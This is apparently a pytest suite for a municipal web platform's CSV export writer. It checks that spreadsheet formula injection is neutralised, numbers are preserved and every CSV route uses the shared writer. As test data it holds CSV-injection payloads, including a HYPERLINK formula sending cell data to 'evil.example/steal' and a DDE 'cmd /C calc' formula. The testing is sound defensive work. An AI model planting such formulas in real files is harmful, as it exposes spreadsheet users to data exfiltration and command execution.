"""CSV exports are safe to open in a spreadsheet: no cell can start a formula, numbers stay
numbers, and no export can bypass the platform's one CSV writer."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django_tenants.utils import schema_context

from hamaynk import csvexport
from tenants.registers import services
from tests.conftest import provision_ok
from tests.registers_helpers import signed_in

REPO = Path(__file__).resolve().parents[1]
WRITER = REPO / "platform" / "hamaynk" / "csvexport.py"
SOURCES = [REPO / "tenants", REPO / "platform" / "hamaynk", REPO / "provisioning"]
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1, "Click for details")'


@pytest.fixture(scope="module")
def town():
    return provision_ok()


def rows_of(response):
    body = (b"".join(response.streaming_content) if response.streaming else response.content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


# The writer ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+374 10 123456",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        HYPERLINK,
        "=cmd|' /C calc'!A0",
        "-",
        "+",
        "-12.5, 44.3",
        "--5",
        "-5e3",
        "- 5",
    ],
)
def test_cells_that_could_start_a_formula_get_an_apostrophe(value):
    assert csvexport.neutralise(value) == "'" + value
    assert csvexport.restore(csvexport.neutralise(value)) == value


@pytest.mark.parametrize("value", ["Երևան", "N 12-Ա", "a=b", "1-2", "", "'quoted", "12", "0.5", "-"[1:]])
def test_ordinary_text_is_written_as_it_is(value):
    assert csvexport.neutralise(value) == value
    assert csvexport.restore(value) == value


@pytest.mark.parametrize("value", [-1500, -0.25, Decimal("-12.50"), 0, 10**15, "-1500", "-12.50", "7"])
def test_numbers_stay_numbers(value):
    assert csvexport.neutralise(value) == value


def test_the_escape_loses_nothing_on_the_way_back():
    """A value that already had apostrophes before a trigger gets one more, so an edited file
    imported again gives back exactly what was exported."""
    for value in ("'=1+1", "''-x", "'+374", "''", "'", "'-5"):
        written = csvexport.neutralise(value)
        assert csvexport.restore(written) == value, (value, written)
    assert csvexport.neutralise("'=1+1") == "''=1+1"


def test_none_and_booleans():
    assert csvexport.neutralise(None) == ""
    assert csvexport.neutralise(True) == "True"


def test_a_whole_file_keeps_numbers_and_quotes_formulas():
    text = csvexport.text(["name", "amount"], [[HYPERLINK, -1500], ["Արամ", Decimal("12.50")]], bom=False)
    assert list(csv.reader(io.StringIO(text))) == [["name", "amount"], ["'" + HYPERLINK, "-1500"], ["Արամ", "12.50"]]
    assert csvexport.text(["a"], [], bom=True).startswith("\ufeff")


def test_an_exported_file_reads_back_as_it_went_out():
    """The imports' reader takes the escaping apostrophe off again, so a register or budget file
    exported, edited and imported keeps its phone numbers and titles unchanged."""
    from hamaynk import csvinput

    rows = [["+374 10 123456", HYPERLINK, "'=kept", "-1500", "Արամ"], ["@home", "\t=x", "a=b", "", "-"]]
    text = csvexport.text(["phone", "title", "note", "amount", "name"], rows)
    assert csvinput.read_rows(text.encode("utf-8"))[1:] == rows


# No export bypasses the writer -----------------------------------------------------------------


def _python_files():
    for root in SOURCES:
        for path in root.rglob("*.py"):
            if path != WRITER and "migrations" not in path.parts:
                yield path


def test_no_code_writes_csv_or_answers_text_csv_except_the_shared_writer():
    """csv.writer, csv.DictWriter or a `text/csv` content type anywhere else would be an export
    that skips the neutralising; readers (imports) are fine."""
    offences = []
    for path in _python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                offences.append(f"{path.relative_to(REPO)}:{node.lineno} csv.{node.attr}")
            elif (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and {alias.name for alias in node.names} & {"writer", "DictWriter", "*"}
            ):
                offences.append(f"{path.relative_to(REPO)}:{node.lineno} from csv import …")
            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value:
                offences.append(f"{path.relative_to(REPO)}:{node.lineno} text/csv")
    assert offences == []
    # The walk does see the files it must: the exports import the shared writer.
    users = {
        path.relative_to(REPO).as_posix() for path in _python_files() if "csvexport" in path.read_text(encoding="utf-8")
    }
    assert {
        "tenants/registers/views.py",
        "tenants/cases/kpi_views.py",
        "tenants/budget/public.py",
        "tenants/website/opendata.py",
    } <= users


# Each route of the municipal URL conf that can answer CSV, with the URLs that reach every
# variant of it. A new CSV route fails the test below until it is listed here, and then it is
# requested and must answer through the shared writer.
CSV_ROUTES = {
    "staff/cases/kpis.csv": ["/staff/cases/kpis.csv"],
    "staff/registers/<slug:code>/export.<str:fmt>": [
        "/staff/registers/council_decisions/export.csv",
        "/staff/registers/residents/export.csv",
    ],
    "registers/<slug:code>.<str:fmt>": ["/registers/council_decisions.csv"],
    "open-data/budget.csv": ["/open-data/budget.csv"],
    "open-data/<slug:code>.<str:fmt>": [
        "/open-data/decisions.csv",
        "/open-data/population.csv",
        "/open-data/services.csv",
        "/open-data/budget.csv",
    ],
}


def _routes(patterns, prefix=""):
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if hasattr(pattern, "url_patterns"):
            yield from _routes(pattern.url_patterns, route)
        else:
            yield route


def test_every_csv_route_of_the_municipal_site_answers_through_the_writer(town, client_for):
    from unittest import mock

    from django.urls import get_resolver

    from tenants.website.opendata import DATASETS

    found = {
        route
        for route in _routes(get_resolver("hamaynk.urls_municipal").url_patterns)
        if ".csv" in route or "<str:fmt>" in route
    }
    assert found == set(CSV_ROUTES)
    datasets = set(CSV_ROUTES["open-data/<slug:code>.<str:fmt>"])
    assert {f"/open-data/{code}.csv" for code, _title, _text in DATASETS} <= datasets
    secretary = signed_in(client_for, town, "csv-walk@town.test", "secretary")
    urls = [url for group in CSV_ROUTES.values() for url in group]
    with mock.patch.object(csvexport, "response", wraps=csvexport.response) as writer:
        for url in urls:
            response = secretary.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"] == "text/csv; charset=utf-8", url
            rows_of(response)  # a streamed file is written while it is read
    assert writer.call_count == len(urls)


# Exports of real records -----------------------------------------------------------------------


def test_a_formula_in_a_register_record_is_inert_in_the_staff_export_and_in_open_data(town, client_for):
    with schema_context(town.schema_name):
        record = services.create(
            "council_decisions",
            {
                "number": "N 77-Ֆ",
                "date": "01.02.2026",
                "title": HYPERLINK,
                "text": "@SUM(1+1)*cmd|' /C calc'!A0",
                "votes_for": 12,
                "votes_against": 0,
                "status": "adopted",
                "published": True,
            },
            actor="test",
        )
    secretary = signed_in(client_for, town, "csv-secretary@town.test", "secretary")
    public = client_for(town.primary_host)
    for response in (
        secretary.get("/staff/registers/council_decisions/export.csv"),
        public.get("/registers/council_decisions.csv"),
        public.get("/open-data/decisions.csv"),
    ):
        assert response.status_code == 200
        rows = rows_of(response)
        header, found = rows[0], [r for r in rows if r[0] == str(record.uuid)]
        assert len(found) == 1, rows
        cells = dict(zip(header, found[0], strict=True))
        assert cells["title"] == "'" + HYPERLINK
        assert cells["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert cells["votes_for"] == "12" and cells["number"] == "N 77-Ֆ"
        assert not any(
            cell.startswith(csvexport.TRIGGERS) and not csvexport.PLAIN_NUMBER.fullmatch(cell)
            for row in rows
            for cell in row
        )
    # JSON is data, not a spreadsheet: the title is given exactly as stored.
    data = public.get("/registers/council_decisions.json").json()
    assert [r["title"] for r in data["records"] if r["id"] == str(record.uuid)] == [HYPERLINK]


def test_a_formula_in_a_service_name_is_inert_in_the_kpi_export(town, client_for):
    from tenants.cases import workflow
    from tenants.catalogue.models import Service

    with schema_context(town.schema_name):
        service = Service.objects.get(code="residence_certificate")
        workflow.submit(
            service,
            {
                "psn": "1234567890",
                "last_name": "Պետրոսյան",
                "first_name": "Անի",
                "address": "Կենտրոն, Բաղրամյան, 11, 4",
                "purpose": "Բանկ",
            },
            applicant={"name": "Անի Պետրոսյան"},
            channel="window",
        )
        Service.objects.filter(pk=service.pk).update(name_en="=1+2", name_hy="=1+2", name_ru="=1+2")
    mayor = signed_in(client_for, town, "csv-head@town.test", "administrator")
    response = mayor.get("/staff/cases/kpis.csv", {"service": service.code}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200, response.content[:300]
    rows = rows_of(response)
    assert rows[1][2] == "'=1+2" and rows[1][1] == service.code


def test_budget_amounts_stay_numbers_and_category_names_are_inert(client_for):
    from tenants.budget.models import Category, Line

    town = provision_ok()
    with schema_context(town.schema_name):
        category = Category.objects.order_by("position").first()
        Category.objects.filter(pk=category.pk).update(name_en="+SUM(9)")
        Line.objects.create(year=2025, category=category, planned=1500, executed=0)
    rows = rows_of(client_for(town.primary_host).get("/open-data/budget.csv", HTTP_ACCEPT_LANGUAGE="en"))
    assert rows[1] == ["2025", category.direction, category.code, "'+SUM(9)", "1500", "0"]


def test_one_municipalitys_poisoned_record_is_not_in_anothers_open_data(town, alpha, client_for):
    with schema_context(town.schema_name):
        services.create(
            "council_decisions",
            {"number": "N 5-Ի", "date": "01.03.2026", "title": "=ISOLATION()", "status": "adopted", "published": True},
            actor="test",
        )
    elsewhere = rows_of(client_for(alpha.primary_host).get("/open-data/decisions.csv"))
    assert not any("ISOLATION" in cell for row in elsewhere for cell in row)
    here = rows_of(client_for(town.primary_host).get("/open-data/decisions.csv"))
    assert any(cell == "'=ISOLATION()" for row in here for cell in row)
